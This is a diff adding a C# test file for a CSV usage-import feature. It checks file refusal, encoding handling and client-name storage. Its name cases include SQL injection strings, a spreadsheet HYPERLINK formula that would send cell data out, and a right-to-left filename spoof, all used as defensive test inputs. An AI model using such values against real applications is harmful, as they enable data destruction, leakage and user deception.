@@ -1,0 +1,172 @@
+using System.Text;
+using CreditUsage.Data;
+using CreditUsage.Platform;
+using CreditUsage.Tests.Support;
+using Microsoft.EntityFrameworkCore;
+using Microsoft.Extensions.DependencyInjection;
+
+namespace CreditUsage.Tests.Features.Imports;
+
+/// <summary>What a file may look like: C01-C12 and C42-C47 of design/security.md.</summary>
+public sealed class UsageCsvFileTests(Site site) : IClassFixture<Site>
+{
+    private static readonly string Good = CsvRow.Session("E1", "2026-10-01T09:30:00Z");
+
+    public static TheoryData<string, string> RefusedWhole => new()
+    {
+        { "", "empty" },
+        { "\uFEFF", "empty" },
+        { CsvText.Header, "no events" },
+        { CsvText.Header + "\r\n", "no events" },
+        { CsvText.Of(Good).Replace(',', ';'), "commas" },
+        { CsvText.Of(Good).Replace(',', '\t'), "commas" },
+        { CsvText.Of(Good).Replace("cost_gbp", "cost", StringComparison.Ordinal), "cost_gbp" },
+        { Good, "event_id" },
+        { CsvText.Of(Good).Replace("identity_note", "program", StringComparison.Ordinal), "identity_note" },
+        { CsvText.Header + ",program\r\n" + Good + ",x", "program twice" },
+        { "<!DOCTYPE html><html><body>Not found</body></html>", "column" },
+        { "%PDF-1.4\n%\u00e2\u00e3", "column" },
+    };
+
+    [Theory]
+    [MemberData(nameof(RefusedWhole))]
+    public async Task A_file_without_the_right_columns_or_any_event_is_refused_in_words(string text, string word)
+    {
+        var problem = await Assert.ThrowsAsync<UserFacingException>(async () => await site.ImportTextAsync(await ClinicAsync(), text));
+        Assert.Contains(word, problem.Message, StringComparison.Ordinal);
+    }
+
+    public static TheoryData<string> Accepted => new()
+    {
+        CsvText.Of(Good),
+        CsvText.Of(Good) + "\r\n",
+        "\uFEFF" + CsvText.Of(Good),
+        CsvText.Of(Good).Replace("\r\n", "\n", StringComparison.Ordinal),
+        CsvText.Of(Good).Replace("\r\n", "\r", StringComparison.Ordinal),
+        CsvText.Of(Good, "", Good + "\n"),
+        CsvText.Header.ToUpperInvariant().Replace(",", " , ", StringComparison.Ordinal) + "\r\n" + Good,
+        CsvText.Header + ",remark\r\n" + Good + ",extra columns are nobody's business",
+        string.Join(',', CsvText.Header.Split(',').Reverse()) + "\r\n" + string.Join(',', Good.Split(',').Reverse()),
+        CsvText.Of("\"" + Good.Replace(",", "\",\"", StringComparison.Ordinal) + "\""),
+    };
+
+    [Theory]
+    [MemberData(nameof(Accepted))]
+    public async Task Line_ends_marks_and_the_order_of_columns_do_not_matter(string text)
+    {
+        var clinic = await ClinicAsync();
+        var result = await site.ImportTextAsync(clinic, text);
+        Assert.Equal((1, 0, true), (result.Accepted, result.ErrorCount, result.Stored));
+        var stored = await site.InAsync(clinic, services => services.GetRequiredService<CreditUsageDb>().UsageEvents.SingleAsync());
+        Assert.Equal(("E1", new DateTimeOffset(2026, 10, 1, 9, 30, 0, TimeSpan.Zero), 25), (stored.EventId, stored.OccurredAt, stored.DurationMinutes));
+    }
+
+    public static TheoryData<byte[]> NotUtf8 => new()
+    {
+        new byte[] { 0xA3 }, // a pound sign of Windows-1252
+        new byte[] { 0x5A, 0x6F, 0xEB },
+        new byte[] { 0xC3, 0x28 },
+        new byte[] { 0xC0, 0xAF }, // overlong
+        new byte[] { 0xED, 0xA0, 0x80 }, // half a surrogate pair
+        new byte[] { 0xF4, 0x90, 0x80, 0x80 }, // past U+10FFFF
+        new byte[] { 0x41, 0xE2, 0x82 }, // cut off
+    };
+
+    [Theory]
+    [MemberData(nameof(NotUtf8))]
+    public async Task Bytes_that_are_not_UTF_8_are_refused_with_their_line(byte[] name)
+    {
+        var bytes = Encoding.UTF8.GetBytes(CsvText.Of(Good, CsvRow.Session("E2", "2026-10-01T09:30:00Z", client: "@NAME@")));
+        var at = bytes.AsSpan().IndexOf("@NAME@"u8);
+
+        var result = await site.ImportAsync(await ClinicAsync(), [.. bytes[..at], .. name, .. bytes[(at + 6)..]]);
+
+        var error = Assert.Single(result.Errors);
+        Assert.Equal((3, "client_name", false), (error.Line, error.Field, result.Stored));
+        Assert.Contains("UTF-8", error.Message, StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("utf-16")]
+    [InlineData("utf-16BE")]
+    public async Task A_file_in_UTF_16_is_read_right_or_refused_never_garbled(string encoding)
+    {
+        var clinic = await ClinicAsync();
+        var utf16 = Encoding.GetEncoding(encoding);
+        var bytes = utf16.GetPreamble().Concat(utf16.GetBytes(CsvText.Of(CsvRow.Session("E1", "2026-10-01T09:30:00Z", client: "Zoë 李")))).ToArray();
+
+        var refused = await Record.ExceptionAsync(() => site.ImportAsync(clinic, bytes));
+
+        var names = await site.InAsync(clinic, services => services.GetRequiredService<CreditUsageDb>().Clients.Select(client => client.Name).ToListAsync());
+        if (refused is null) Assert.Equal(["Zoë 李"], names);
+        else Assert.Equal((typeof(UserFacingException), 0), (refused.GetType(), names.Count));
+    }
+
+    [Fact]
+    public async Task A_line_with_too_few_or_too_many_fields_is_refused_with_its_line_also_below_quoted_line_breaks()
+    {
+        var result = await site.ImportTextAsync(await ClinicAsync(), CsvText.Of(
+            CsvRow.Session("E1", "2026-10-01T09:30:00Z", client: "Two\r\nlines"),
+            CsvRow.Session("E2", "2026-10-01T09:30:00Z", client: "Three\nmore\rlines"),
+            "E3,connected-session,2026-10-01T09:30:00Z",
+            Good + ",one more",
+            CsvRow.Session("E4", "2026-10-01T09:30:00Z", minutes: 9999)));
+
+        Assert.Equal([(7, "row"), (8, "row"), (9, "duration_minutes")], result.Errors.Select(error => (error.Line, error.Field)));
+    }
+
+    [Fact]
+    public async Task A_stray_quote_is_refused_with_its_line()
+    {
+        var result = await site.ImportTextAsync(await ClinicAsync(), CsvText.Of(Good, CsvRow.Session("E2", "2026-10-01T09:30:00Z", client: "NAME").Replace("NAME", "\"Ann\" Client", StringComparison.Ordinal)));
+        Assert.Equal((3, "row"), (Assert.Single(result.Errors).Line, result.Errors[0].Field));
+    }
+
+    [Theory]
+    [InlineData("O'Brien, \"Bob\"", "O'Brien, \"Bob\"")]
+    [InlineData("two\r\nlines", "two lines")]
+    [InlineData("  tab\tand   spaces ", "tab and spaces")]
+    [InlineData("NBSP\u00A0and\u2028line", "NBSP and line")]
+    [InlineData("Zoe\u0308", "Zo\u00eb")]
+    [InlineData("=HYPERLINK(\"http://x/?\"&A1)", "=HYPERLINK(\"http://x/?\"&A1)")]
+    [InlineData("NULL", "NULL")]
+    [InlineData("0", "0")]
+    [InlineData("' OR 1=1 --", "' OR 1=1 --")]
+    [InlineData("Robert'); DROP TABLE Clients;--", "Robert'); DROP TABLE Clients;--")]
+    [InlineData("50%_\\", "50%_\\")]
+    [InlineData("\u0410nna", "\u0410nna")]
+    [InlineData("👩‍⚕️ 李 محمد", "👩‍⚕️ 李 محمد")]
+    public async Task Awkward_names_are_kept(string name, string kept)
+    {
+        var clinic = await ClinicAsync();
+        await site.ImportRowsAsync(clinic, CsvRow.Session("E1", "2026-10-01T09:30:00Z", client: name));
+        Assert.Equal([kept], await site.InAsync(clinic, services => services.GetRequiredService<CreditUsageDb>().Clients.Select(client => client.Name).ToListAsync()));
+    }
+
+    [Fact]
+    public async Task Forms_of_one_name_are_one_client_and_a_homoglyph_is_another()
+    {
+        var clinic = await ClinicAsync();
+        await site.ImportRowsAsync(
+            clinic,
+            CsvRow.Session("E1", "2026-10-01T09:30:00Z", client: "Anna Zo\u00eb"),
+            CsvRow.Session("E2", "2026-10-01T09:31:00Z", client: "Anna  Zoe\u0308\u00A0"),
+            CsvRow.Session("E3", "2026-10-01T09:32:00Z", client: "\u0410nna Zo\u00eb"));
+        Assert.Equal(2, await site.InAsync(clinic, services => services.GetRequiredService<CreditUsageDb>().Clients.CountAsync()));
+    }
+
+    [Theory]
+    [InlineData("Ac\0me")]
+    [InlineData("be\u0007ll")]
+    [InlineData("\u001b[31m")]
+    [InlineData("gpj.\u202Eexe")]
+    [InlineData("\u2066isolate\u2069")]
+    [InlineData("non\uFFFEcharacter")]
+    public async Task Controls_in_a_name_are_refused_with_their_line(string name)
+    {
+        var result = await site.ImportRowsAsync(await ClinicAsync(), Good, CsvRow.Session("E2", "2026-10-01T09:30:00Z", client: name));
+        Assert.Equal((3, "client_name"), (Assert.Single(result.Errors).Line, result.Errors[0].Field));
+    }
+
+    private Task<int> ClinicAsync() => site.SubscriptionAsync("Clinic", new DateOnly(2026, 1, 1));
+}
